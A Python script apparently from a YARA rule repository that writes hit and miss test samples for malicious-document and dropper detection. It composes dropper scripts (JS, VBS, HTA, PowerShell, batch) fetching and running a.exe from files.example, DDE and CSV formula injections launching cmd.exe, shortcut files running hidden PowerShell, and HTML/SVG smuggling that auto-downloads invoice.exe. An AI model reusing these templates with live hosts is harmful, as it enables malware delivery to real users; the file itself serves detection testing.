#!/usr/bin/env python3
"""Writes the files that the YARA rules here are to hit, and those that they are to miss.

    rules/yara/samples.py [FOLDER]        default: the folder `samples` beside this script

They are composed here and not kept in the repository, so that no file of it sets a virus scanner off. None does harm: what
looks like a program has no code, and what looks like a download points to hosts under .example. `tamis rules test` and the
tests use them; each is named by the `hit` or `miss` of a rule.
"""

import base64
import io
import os
import struct
import sys
import zipfile

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD" + b"-ANTIVIRUS-TEST-FILE!$H+H*"


def program():
    """The headers of a Windows program, and nothing behind them."""
    head = bytearray(64)
    head[0:5] = b"MZ\x90\0\3"
    head[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(head) + b"PE\0\0" + b"\0" * 300


def wide(text):
    return text.encode("utf-16-le")


def ole(*pieces):
    """The head of an OLE file and pieces of streams."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"\0\0".join(pieces) + b"\0" * 512


def vba(*names):
    return ole(wide("Root Entry"), wide("_VBA_PROJECT"), wide("dir"), *[b"\x01\x02" + name for name in names])


def zipped(files, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def encrypted(files):
    """A zip that says that its files need a password; their content is not encrypted."""
    raw = bytearray(zipped(files, zipfile.ZIP_STORED))
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = raw.find(sign)
        while at >= 0:
            raw[at + flags] |= 1
            at = raw.find(sign, at + 4)
    return bytes(raw)


def ooxml(main, more=()):
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
    return zipped([("[Content_Types].xml", types), main, *more])


def link(*texts):
    """A shortcut file: header and class, then strings."""
    head = struct.pack("<II", 0x4C, 0x00021401) + bytes.fromhex("00000000c000000000000046") + b"\0" * 56
    return head + b"".join(struct.pack("<H", len(text)) + wide(text) for text in texts)


def samples():
    payload = base64.b64encode(program() * 3)
    page = b"<html><body><h1>Report</h1>%s</body></html>"
    yield "eicar.com", EICAR
    yield "eicar-with-line-end.txt", EICAR + b"\r\n"
    yield "eicar-quoted.txt", b"The test file is " + EICAR + b", and is to be typed as it stands.\n"
    yield "eicar-broken.com", EICAR.replace(b"STANDARD", b"STANDART")

    yield "program.pdf", program()
    yield "program.exe", program()
    yield "invoice.pdf.exe", program()
    yield "photo.jpg      .scr", program()
    yield "begins-with-mz.txt", b"MZ is how programs begin, and this is a text that is long enough to be one. " * 3
    yield "invoice.pdf.txt", b"This is the text of the invoice, and no program at all. " * 3
    yield "program.zip", zipped([("setup.exe", program())])

    yield "dropper.js", b"""var s = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://files.example/a.exe", false); x.send();
var b = new ActiveXObject("ADODB.Stream"); b.Open(); b.Type = 1; b.Write(x.ResponseBody);
b.SaveToFile("a.exe", 2); s.Run("a.exe", 0, false);
"""
    yield "dropper.vbs", b"""Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
x.Open "GET", "http://files.example/a.exe", False : x.Send
Set b = CreateObject("ADODB.Stream") : b.Type = 1 : b.Open : b.Write x.ResponseBody : b.SaveToFile "a.exe", 2
CreateObject("WScript.Shell").Run "a.exe", 0, False
"""
    yield "dropper.hta", b"""<html><head><hta:application id="a" windowstate="minimize"></head><script language="VBScript">
Set x = CreateObject("MSXML2.ServerXMLHTTP") : x.Open "GET", "http://files.example/a", False : x.Send
CreateObject("Shell.Application").ShellExecute "a.exe" : CreateObject("WScript.Shell").Run "a.exe"
</script></html>"""
    yield "website.js", b"""export async function load(url) { const r = new XMLHttpRequest(); r.open("GET", url); r.send(); }
export const run = (task) => task.run(); document.querySelector("form").submit();
"""
    yield "logon.vbs", b"""Set n = CreateObject("WScript.Network") : n.MapNetworkDrive "H:", "\\\\files.example\\home"
CreateObject("WScript.Shell").Run "notepad.exe"
"""
    droppers = b"""Droppers use ActiveXObject or CreateObject to make MSXML2.XMLHTTP and ADODB.Stream, then SaveToFile, and start the
file with WScript.Shell and .Run; in PowerShell it is DownloadString with IEX, -nop -w hidden -ExecutionPolicy bypass.
"""
    yield "about-droppers.txt", droppers
    yield "dropper.ps1", b"""$c = New-Object Net.WebClient; $t = $c.DownloadString('http://files.example/a'); IEX $t
# started as: powershell -NoP -W Hidden -ExecutionPolicy Bypass -File a.ps1
"""
    yield "dropper.bat", b"""@echo off
powershell -nop -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://files.example/a.exe','a.exe'); Start-Process a.exe"
"""
    yield "encoded.bat", b"@echo off\r\npowershell.exe -NonI -enc " + base64.b64encode(wide("Write-Host hello; " * 8)) + b"\r\n"
    yield "admin.ps1", b"""Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length
Invoke-WebRequest https://status.example/health -OutFile health.json
powershell -File nightly.ps1 -Environment production
"""

    yield "macro.doc", vba(b"Document_Open", b"CreateObject", b"WScript.Shell", b"powershell")
    yield "macro.docm", ooxml(
        ("word/document.xml", b"<w:document/>"),
        [("word/vbaProject.bin", vba(b"AutoOpen", b"MSXML2.XMLHTTP", b"ADODB.Stream"))],
    )
    yield "macro-that-formats.doc", vba(b"Document_Open", b"Selection", b"Font", b"Bold")
    yield "macro-on-a-button.doc", vba(b"CommandButton1_Click", b"Selection", b"Font")
    source = b'Attribute VB_Name = "ThisDocument"\r\nSub %s()\r\n  %s\r\nEnd Sub\r\n'
    yield "macro.bas", source % (b"Document_Open", b'Shell "calc.example"')
    yield "macro-that-formats.bas", source % (b"AutoOpen", b"Selection.Font.Bold = True")
    yield "macro-on-a-button.bas", source % (b"CommandButton1_Click", b'Shell "calc.example"')
    yield "macro-empty.bas", b'Attribute VB_Name = "Sheet1"\r\nAttribute VB_Exposed = True\r\nOption Explicit\r\n'
    yield "document.doc", ole(wide("Root Entry"), wide("WordDocument"), b"How to write an AutoOpen macro with WScript.Shell")
    sheet = lambda kind: b"\x85\x00\x0e\x00\x34\x12\x00\x00\x00" + bytes([kind]) + b"\x06\x00Macro1"
    # The name of a built-in is one byte, behind one of flags.
    named = lambda code: b"\x18\x00\x17\x00\x20\x00\x00\x01\x07\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([code, 0x3A, 0])
    yield "excel4.xls", ole(wide("Workbook"), sheet(1), named(1))
    yield "excel4-named.xls", ole(wide("Workbook"), sheet(0), named(6))
    yield "excel4.xlsm", ooxml(
        (
            "xl/workbook.xml",
            b'<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>',
        ),
        [("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")],
    )
    yield "excel4.slk", b"ID;PWXL;N;E\r\nNN;NAuto_open;ER1C1;KOut Flnfnt\r\nC;Y1;X1;EHALT()\r\nE\r\n"
    yield "table.slk", b"ID;PWXL;N;E\r\nNN;NTotals;ER1C1\r\nC;Y1;X1;K5\r\nC;Y2;X1;KAuto_open\r\nE\r\n"
    auto_open = struct.pack("<I", 9) + wide("Auto_Open")
    yield "excel4.xlsb", ooxml(("xl/workbook.bin", b"\x83\x01\x00" + b"\x27\x34\x20\0\0\0\0\xff\xff\xff\xff" + auto_open))
    yield "workbook.xlsx", ooxml(
        (
            "xl/workbook.xml",
            b'<workbook><definedNames><definedName name="_xlnm.Print_Area">Sheet1!$A$1</definedName></definedNames></workbook>',
        )
    )
    yield "dde.docx", ooxml(
        (
            "word/document.xml",
            b'<w:document><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:document>',
        )
    )
    yield "dde.csv", b"name,amount\r\nAnn,3\r\n=cmd|'/c calc.exe'!A1,5\r\n"
    yield "table.csv", b"name,amount\r\nAnn,=SUM(B1:B3)\r\n+49 30 1234,5\r\n"
    sheet = b'<?xml version="1.0"?>\r\n<?mso-application progid="Excel.Sheet"?>\r\n<Workbook xmlns:ss="urn:schemas-microsoft-com:office:'
    sheet += b'spreadsheet"><Worksheet><Table><Row><Cell ss:Formula="%s"><Data>5</Data></Cell></Row></Table></Worksheet></Workbook>\r\n'
    yield "dde-sheet.xml", sheet % b"=cmd|'/c calc.exe'!A1"
    yield "sheet.xml", sheet % b"=SUM(B1:B3)"
    yield "about-dde.txt", b"A field DDEAUTO may start cmd.exe: that is why Word asks before it does so. Switch DDE off.\r\n"
    yield "package.doc", ole(wide("WordDocument"), wide("\x01Ole10Native"), b"\x02\0setup.exe\0C:\\temp\\setup.exe\0\0\0\x03\0")
    yield "package-of-text.doc", ole(wide("WordDocument"), wide("\x01Ole10Native"), b"\x02\0notes.txt\0C:\\temp\\notes.txt\0\0")

    yield "shell.lnk", link("..\\..\\Windows\\System32\\cmd.exe", "/c start a.bat")
    yield "download.lnk", link("..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden iwr http://files.example/a")
    yield "document.lnk", link("..\\..\\Documents\\report.docx", "C:\\Users\\ann\\Documents")
    yield "about-shortcuts.txt", b"A shortcut to powershell.exe -w hidden https://files.example/ is never honest in mail.\n"
    yield "share.url", b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/invoice.js\r\nIconIndex=1\r\n"
    yield "website.url", b"[InternetShortcut]\r\nURL=https://www.example/download/setup.exe\r\nIconIndex=1\r\n"

    smuggling = b"""<script>var d = "%s"; var b = atob(d), u = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);
var a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([u]));
a.download = "invoice.exe"; document.body.appendChild(a); a.click();</script>"""
    yield "smuggling.html", page % (smuggling % payload)
    yield "smuggling-old.html", page % (
        b"""<script>var d = '%s'; var s = ''; for (var i = 0; i < d.length; i += 2) s += String.fromCharCode(d.charCodeAt(i));
if (window.navigator.msSaveOrOpenBlob) { navigator.msSaveOrOpenBlob(new Blob([s]), 'invoice.zip'); }</script>""" % payload
    )
    yield "page-with-export.html", page % (
        b"""<script>function save(rows) { var blob = new Blob([rows.join("\\n")], {type: "text/csv"});
var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "table.csv"; a.click(); }
document.querySelector("button").onclick = function () { save(["a,b", "1,2"]); };</script>"""
    )
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    yield "page-with-picture.html", page % (b'<img src="data:image/png;base64,%s"><script>track();</script>' % picture)
    yield "about-smuggling.html", page % (
        b"<p>Smuggling decodes a text with atob(), makes a new Blob(), calls createObjectURL and a.click().</p>"
    )
    svg = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'
    yield "redirect.svg", svg % b"<script><![CDATA[window.location.href = atob('aHR0cHM6Ly9sb2dpbi5leGFtcGxlLw==');]]></script>"
    yield "smuggling.svg", svg % (
        b"<script><![CDATA[var d = atob('%s'); var u = URL.createObjectURL(new Blob([d])); window.open(u);]]></script>" % payload
    )
    yield "picture.svg", svg % b'<path d="M0 0h9v9z" fill="#abc"/><title>location</title>'
    yield "moving.svg", svg % b"<script>document.querySelector('path').setAttribute('fill', 'red');</script><path d='M0 0h9'/>"

    yield "encrypted-program.zip", encrypted([("readme.txt", b"x"), ("setup.exe", program())])
    yield "encrypted-document.zip", encrypted([("report.docx", b"x" * 100), ("about setup.exe files.txt", b"x")])


def main():
    folder = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "samples")
    os.makedirs(folder, exist_ok=True)
    count = 0
    for name, content in samples():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(content)
        count += 1
    print(f"{count} files in {folder}")


if __name__ == "__main__":
    main()
